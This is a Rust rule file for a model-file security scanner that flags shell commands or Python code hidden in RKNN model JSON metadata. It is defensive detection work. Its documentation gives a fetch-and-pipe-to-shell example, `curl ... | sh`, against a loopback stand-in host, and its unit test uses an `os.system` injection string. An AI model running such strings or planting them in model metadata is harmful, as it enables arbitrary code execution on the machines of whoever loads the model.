//! RKN003: a string in the RKNN model's JSON description contains a shell command or Python code.

use crate::rules::safetensors::metadata_payloads::{MetadataText, check_code};
use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

pub static RULE: RuleMeta = RuleMeta {
    code: "RKN003",
    name: "rknn-metadata-code",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::CodeInjection,
    scanner: "rknn",
    cwe: Some("CWE-94"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A string in the RKNN model's JSON description contains a shell command or Python code.",
    remediation: "Find out what reads this string; do not run it. Re-export the model.",
    docs: r#"## What it does
Looks for shell commands and Python code in every string of the JSON description (model name, platforms, node names and attributes).

## Why is this bad?
The runtime does not run them, but tools around the model read the description; a command staged there is a payload waiting for such a reader.

## Example
`"name": "bash -c 'curl http://127.0.0.1:9/x | sh'"`.

## How to fix
Re-export the model without the string.

## References
- https://github.com/airockchip/rknn-toolkit2
- CWE-94: Improper Control of Generation of Code
"#,
};

pub(crate) fn check(texts: &[MetadataText<'_>], location: &Location, out: &mut Vec<Finding>) {
    check_code(&RULE, texts, location, out);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_in_name() {
        use crate::rules::safetensors::metadata_payloads::Text;
        let texts = [MetadataText {
            key: "$.name",
            text: Text::Str("__import__('os').system('echo x')"),
            offset: 0,
            in_vocabulary: false,
        }];
        let mut out = Vec::new();
        check(&texts, &Location::file("m.rknn"), &mut out);
        assert_eq!(out[0].severity, Severity::High);
    }
}
